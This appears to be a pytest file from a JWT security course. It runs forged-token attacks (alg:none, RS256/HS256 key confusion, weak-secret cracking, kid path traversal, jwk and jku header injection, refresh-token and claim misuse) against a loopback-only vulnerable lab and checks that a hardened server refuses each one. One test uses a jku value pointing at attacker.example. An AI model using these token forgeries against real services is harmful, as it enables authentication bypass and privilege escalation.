"""Chapter 06's lab over real HTTP: every attack works on jwt_course.vulnerable, and the
same attack gets a 401 from the course's real server (jwt_course.server)."""

from __future__ import annotations

import asyncio
import dataclasses
import json
import time
from collections.abc import Iterator
from typing import Any

import httpx
import jwt
import pytest
from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.asymmetric import rsa
from fastapi import FastAPI

from jwt_course import handmade, serve
from jwt_course.attacks import TcpTap, forge, hs256, load_wordlist, show_source
from jwt_course.server import Settings, create_app
from jwt_course.vulnerable import LABS, VulnerableSettings, mistake
from jwt_course.vulnerable import create_app as create_vulnerable_app

SECRET = "test-secret-for-the-real-server-0123456789abcdef"
ISSUER = "https://auth.test"
AUDIENCE = "https://api.test"
RSA_KEY = rsa.generate_private_key(public_exponent=65537, key_size=2048)
ATTACKER_KEY = rsa.generate_private_key(public_exponent=65537, key_size=2048)


def _rs256_supported() -> bool:
    try:
        Settings(algorithm="RS256", private_key=RSA_KEY)
    except (TypeError, ValueError):
        return False
    return True


RS256 = _rs256_supported()


@pytest.fixture(scope="module")
def vulnerable() -> Iterator[httpx.Client]:
    with serve(create_vulnerable_app()) as server, httpx.Client(base_url=server.url, timeout=5) as client:
        yield client


@pytest.fixture(scope="module")
def real() -> Iterator[httpx.Client]:
    settings = Settings(secret_key=SECRET, issuer=ISSUER, audience=AUDIENCE)
    with serve(create_app(settings)) as server, httpx.Client(base_url=server.url, timeout=5) as client:
        yield client


@pytest.fixture(scope="module")
def real_rs256() -> Iterator[httpx.Client]:
    if not RS256:
        pytest.skip("the real server does not support RS256 yet (chapter 05)")
    settings = Settings(algorithm="RS256", private_key=RSA_KEY, issuer=ISSUER, audience=AUDIENCE)
    with serve(create_app(settings)) as server, httpx.Client(base_url=server.url, timeout=5) as client:
        yield client


@pytest.fixture(scope="module")
def attacker_jwks() -> Iterator[str]:
    """The attacker's own JWK Set, served from another loopback server."""
    jwk = json.loads(jwt.algorithms.RSAAlgorithm.to_jwk(ATTACKER_KEY.public_key()))
    app = FastAPI()

    @app.get("/jwks.json")
    def key_set() -> dict[str, Any]:
        return {"keys": [{**jwk, "kid": "attacker", "alg": "RS256", "use": "sig"}]}

    with serve(app) as server:
        yield f"{server.url}/jwks.json"


def login(client: httpx.Client, path: str = "/login", user: str = "alice") -> dict[str, Any]:
    password = {"alice": "wonderland", "bob": "builder"}[user]
    response = client.post(path, json={"username": user, "password": password})
    assert response.status_code == 200, response.text
    return response.json()


def call(client: httpx.Client, path: str, token: str) -> httpx.Response:
    return client.get(path, headers={"Authorization": f"Bearer {token}"})


def parts(token: str) -> tuple[dict[str, Any], dict[str, Any], str]:
    header_b64, payload_b64, signature_b64 = token.split(".")
    return (
        json.loads(handmade.b64url_decode(header_b64)),
        json.loads(handmade.b64url_decode(payload_b64)),
        signature_b64,
    )


def as_admin(token: str) -> dict[str, Any]:
    return {**parts(token)[1], "role": "admin"}


def assert_refused(response: httpx.Response, reason: str) -> None:
    assert response.status_code == 401, (response.status_code, response.text)
    assert response.headers["www-authenticate"].startswith('Bearer error="invalid_token"')
    assert reason in response.json()["detail"], response.json()


def real_token(**changes: Any) -> str:
    """A token signed with the real server's secret; ``changes`` alter one claim."""
    now = int(time.time())
    claims = {
        "iss": ISSUER,
        "aud": AUDIENCE,
        "sub": "alice",
        "role": "user",
        "iat": now,
        "exp": now + 600,
        "jti": "j1",
        "fam": "f1",
        **changes,
    }
    return handmade.encode(claims, SECRET, "HS256", headers={"typ": "at+jwt"})


# -- the lab itself -------------------------------------------------------------------


def test_every_lab_names_its_mistake(vulnerable: httpx.Client) -> None:
    labs = vulnerable.get("/labs").json()
    assert set(labs) == set(LABS)
    assert all(labs[name] == mistake(name) and labs[name] for name in LABS)


def test_every_lab_accepts_its_own_tokens_and_guards_admin(vulnerable: httpx.Client) -> None:
    for lab in LABS:
        token = login(vulnerable, f"/{lab}/login")["access_token"]
        assert call(vulnerable, f"/{lab}/me", token).json()["username"] == "alice", lab
        assert call(vulnerable, f"/{lab}/admin", token).status_code == 403, lab
        assert call(vulnerable, f"/{lab}/admin", token + "x").status_code in (401, 403), lab


def test_the_lab_answers_loopback_clients_only(tmp_path: Any) -> None:
    app = create_vulnerable_app(VulnerableSettings(rsa_key=RSA_KEY, keys_dir=str(tmp_path)))
    transport = httpx.ASGITransport(app=app, client=("203.0.113.7", 1234))

    async def get() -> httpx.Response:
        async with httpx.AsyncClient(transport=transport, base_url="http://lab") as client:
            return await client.get("/labs")

    assert asyncio.run(get()).status_code == 403


def test_a_control_token_with_the_real_secret_is_accepted(real: httpx.Client) -> None:
    assert call(real, "/me", real_token()).status_code == 200


# -- 1. the signature is not verified: tampering ---------------------------------------


def test_tampered_payload_works_without_signature_check(vulnerable: httpx.Client) -> None:
    token = login(vulnerable, "/no-verify/login")["access_token"]
    header_b64, _, signature = token.split(".")
    payload_b64 = handmade.b64url_encode(json.dumps(as_admin(token)).encode())
    response = call(vulnerable, "/no-verify/admin", f"{header_b64}.{payload_b64}.{signature}")
    assert response.status_code == 200


def test_tampered_payload_is_refused_by_the_real_server(real: httpx.Client) -> None:
    token = login(real)["access_token"]
    header_b64, _, signature = token.split(".")
    payload_b64 = handmade.b64url_encode(json.dumps(as_admin(token)).encode())
    assert_refused(call(real, "/admin", f"{header_b64}.{payload_b64}.{signature}"), "Signature")


# -- 2. alg: none ----------------------------------------------------------------------


@pytest.mark.parametrize("alg", ["none", "None", "NONE", "nOnE"])
def test_alg_none_works_on_the_lab(vulnerable: httpx.Client, alg: str) -> None:
    token = login(vulnerable, "/alg-none/login")["access_token"]
    forged = forge({**parts(token)[0], "alg": alg}, as_admin(token))
    assert call(vulnerable, "/alg-none/admin", forged).status_code == 200


@pytest.mark.parametrize("alg", ["none", "None", "NONE", "nOnE"])
def test_alg_none_is_refused_by_the_real_server(real: httpx.Client, alg: str) -> None:
    token = login(real)["access_token"]
    forged = forge({**parts(token)[0], "alg": alg}, as_admin(token))
    assert_refused(call(real, "/admin", forged), "alg")


# -- 3. RS256 -> HS256 confusion -------------------------------------------------------


def test_alg_confusion_works_on_the_lab(vulnerable: httpx.Client) -> None:
    token = login(vulnerable, "/alg-confusion/login")["access_token"]
    assert parts(token)[0]["alg"] == "RS256"
    public_pem = vulnerable.get("/public-key.pem").content
    forged = forge({**parts(token)[0], "alg": "HS256"}, as_admin(token), hs256(public_pem))
    assert call(vulnerable, "/alg-confusion/admin", forged).status_code == 200


def test_alg_confusion_is_refused_by_the_real_rs256_server(real_rs256: httpx.Client) -> None:
    token = login(real_rs256)["access_token"]
    assert parts(token)[0]["alg"] == "RS256"
    jwk = real_rs256.get("/.well-known/jwks.json").json()["keys"][0]
    public_key = jwt.algorithms.RSAAlgorithm.from_jwk(jwk)
    for fmt in (serialization.PublicFormat.SubjectPublicKeyInfo, serialization.PublicFormat.PKCS1):
        pem = public_key.public_bytes(serialization.Encoding.PEM, fmt)  # type: ignore[union-attr]
        for key in (pem, pem.strip()):
            forged = forge({**parts(token)[0], "alg": "HS256"}, as_admin(token), hs256(key))
            assert_refused(call(real_rs256, "/admin", forged), "alg")


def test_alg_confusion_with_the_rs256_token_itself_still_verifies(real_rs256: httpx.Client) -> None:
    token = login(real_rs256)["access_token"]
    assert call(real_rs256, "/me", token).status_code == 200


# -- 4. a weak HMAC secret -------------------------------------------------------------


def crack(token: str, words: list[str]) -> str | None:
    signing_input, _, signature = token.rpartition(".")
    target = handmade.b64url_decode(signature)
    for word in words:
        if hs256(word)(signing_input.encode()) == target:
            return word
    return None


def test_weak_secret_is_in_the_wordlist_and_forges_admin(vulnerable: httpx.Client) -> None:
    token = login(vulnerable, "/weak-secret/login")["access_token"]
    secret = crack(token, load_wordlist())
    assert secret == VulnerableSettings.weak_secret
    forged = handmade.encode(as_admin(token), secret, "HS256", headers={"typ": "at+jwt"})
    assert call(vulnerable, "/weak-secret/admin", forged).status_code == 200


def test_the_real_servers_secret_is_not_in_the_wordlist(real: httpx.Client) -> None:
    assert crack(login(real)["access_token"], load_wordlist()) is None


def test_the_real_server_refuses_short_secrets_and_defaults_to_a_random_one() -> None:
    for weak in ("YourSecretKey", "secret", "your-256-bit-secret"):
        with pytest.raises(ValueError, match="32"):
            Settings(secret_key=weak)
    assert Settings().secret_key != Settings().secret_key
    assert len(Settings().secret_key) >= 32


def test_the_wordlist_is_small_unique_and_has_the_usual_suspects() -> None:
    words = load_wordlist()
    assert 100 <= len(words) <= 200 and len(set(words)) == len(words)
    assert {"secret", "password", "changeme", "your-256-bit-secret", "YourSecretKey"} <= set(words)


# -- 5. kid as a file path -------------------------------------------------------------

TRAVERSAL = "../" * 12 + "dev/null"


def test_kid_path_traversal_to_dev_null_works_on_the_lab(vulnerable: httpx.Client) -> None:
    token = login(vulnerable, "/kid-path/login")["access_token"]
    forged = forge({**parts(token)[0], "kid": TRAVERSAL}, as_admin(token), hs256(b""))
    assert call(vulnerable, "/kid-path/admin", forged).status_code == 200


def test_kid_path_traversal_is_refused_by_the_real_server(real: httpx.Client) -> None:
    token = login(real)["access_token"]
    forged = forge({**parts(token)[0], "kid": TRAVERSAL}, as_admin(token), hs256(b""))
    assert_refused(call(real, "/admin", forged), "Signature")


def test_kid_path_traversal_is_refused_by_the_real_rs256_server(real_rs256: httpx.Client) -> None:
    token = login(real_rs256)["access_token"]
    forged = forge({**parts(token)[0], "alg": "HS256", "kid": TRAVERSAL}, as_admin(token), hs256(b""))
    assert call(real_rs256, "/admin", forged).status_code == 401


# -- 6. jwk and 7. jku in the header ---------------------------------------------------


def jwk_header(header: dict[str, Any]) -> dict[str, Any]:
    jwk = json.loads(jwt.algorithms.RSAAlgorithm.to_jwk(ATTACKER_KEY.public_key()))
    return {**header, "alg": "RS256", "kid": "attacker", "jwk": jwk}


def test_embedded_jwk_works_on_the_lab(vulnerable: httpx.Client) -> None:
    token = login(vulnerable, "/jwk-header/login")["access_token"]
    forged = handmade.encode(as_admin(token), ATTACKER_KEY, "RS256", headers=jwk_header(parts(token)[0]))
    assert call(vulnerable, "/jwk-header/admin", forged).status_code == 200


@pytest.mark.parametrize("server", ["real", "real_rs256"])
def test_embedded_jwk_is_refused_by_the_real_server(request: pytest.FixtureRequest, server: str) -> None:
    client = request.getfixturevalue(server)
    token = login(client)["access_token"]
    forged = handmade.encode(as_admin(token), ATTACKER_KEY, "RS256", headers=jwk_header(parts(token)[0]))
    assert call(client, "/admin", forged).status_code == 401


def test_jku_pointing_at_the_attackers_key_set_works_on_the_lab(vulnerable: httpx.Client, attacker_jwks: str) -> None:
    token = login(vulnerable, "/jku-header/login")["access_token"]
    header = {**parts(token)[0], "kid": "attacker", "jku": attacker_jwks}
    forged = handmade.encode(as_admin(token), ATTACKER_KEY, "RS256", headers=header)
    assert call(vulnerable, "/jku-header/admin", forged).status_code == 200


def test_the_jku_lab_never_fetches_beyond_loopback(vulnerable: httpx.Client) -> None:
    token = login(vulnerable, "/jku-header/login")["access_token"]
    header = {**parts(token)[0], "jku": "https://attacker.example/jwks.json"}
    forged = handmade.encode(as_admin(token), ATTACKER_KEY, "RS256", headers=header)
    response = call(vulnerable, "/jku-header/admin", forged)
    assert response.status_code == 401 and "loopback" in response.json()["detail"]


@pytest.mark.parametrize("server", ["real", "real_rs256"])
def test_jku_is_refused_by_the_real_server(request: pytest.FixtureRequest, server: str, attacker_jwks: str) -> None:
    client = request.getfixturevalue(server)
    token = login(client)["access_token"]
    header = {**parts(token)[0], "alg": "RS256", "kid": "attacker", "jku": attacker_jwks}
    forged = handmade.encode(as_admin(token), ATTACKER_KEY, "RS256", headers=header)
    assert call(client, "/admin", forged).status_code == 401


# -- 8. a refresh token used as an access token ----------------------------------------


def test_refresh_token_passes_as_access_token_on_the_lab(vulnerable: httpx.Client) -> None:
    refresh = login(vulnerable, "/any-type/login")["refresh_token"]
    assert parts(refresh)[0]["typ"] == "rt+jwt"
    assert call(vulnerable, "/any-type/me", refresh).status_code == 200


@pytest.mark.parametrize("server", ["real", "real_rs256"])
def test_refresh_token_is_refused_as_access_token_by_the_real_server(
    request: pytest.FixtureRequest, server: str
) -> None:
    client = request.getfixturevalue(server)
    assert_refused(call(client, "/me", login(client)["refresh_token"]), "token type")


# -- 9. expired, wrong aud, wrong iss --------------------------------------------------

LAB: dict[str, Any] = {f.name: f.default for f in dataclasses.fields(VulnerableSettings)}  # the lab's defaults


def lab_token(**changes: Any) -> str:
    now = int(time.time())
    claims = {
        "iss": LAB["issuer"],
        "aud": LAB["audience"],
        "sub": "bob",
        "role": "admin",
        "iat": now,
        "exp": now + 600,
        **changes,
    }
    return handmade.encode(claims, LAB["secret"], "HS256", headers={"typ": "at+jwt"})


CLAIM_ATTACKS: dict[str, tuple[dict[str, Any], str]] = {
    "expired": ({"exp": int(time.time()) - 3600, "iat": int(time.time()) - 4500}, "expired"),
    "wrong aud": ({"aud": "https://other-api.test"}, "Audience"),
    "wrong iss": ({"iss": "https://staging-auth.test"}, "issuer"),
}


@pytest.mark.parametrize("case", CLAIM_ATTACKS)
def test_bad_claims_pass_on_the_lab(vulnerable: httpx.Client, case: str) -> None:
    changes, _ = CLAIM_ATTACKS[case]
    assert call(vulnerable, "/no-claims/admin", lab_token(**changes)).status_code == 200
    assert call(vulnerable, "/alg-none/admin", lab_token(**changes)).status_code == 401


@pytest.mark.parametrize("case", CLAIM_ATTACKS)
def test_bad_claims_are_refused_by_the_real_server(real: httpx.Client, case: str) -> None:
    changes, reason = CLAIM_ATTACKS[case]
    assert_refused(call(real, "/me", real_token(**changes)), reason)


# -- the helpers -----------------------------------------------------------------------


def test_show_source_prints_matching_lines_and_fails_loudly(capsys: pytest.CaptureFixture[str]) -> None:
    show_source(crack, "for word")
    assert capsys.readouterr().out.splitlines()[1:] == ["    for word in words:"]
    with pytest.raises(LookupError):
        show_source(crack, "no such text anywhere")


def test_tcp_tap_records_the_request_bytes(real: httpx.Client) -> None:
    port = int(str(real.base_url).rstrip("/").rsplit(":", 1)[1])
    with TcpTap("127.0.0.1", port) as tap:
        response = httpx.get(f"{tap.url}/health", headers={"Authorization": "Bearer eyJsecret"})
    assert response.status_code == 200
    assert b"Authorization: Bearer eyJsecret" in bytes(tap.sent)
    assert b'"status":"ok"' in bytes(tap.received)
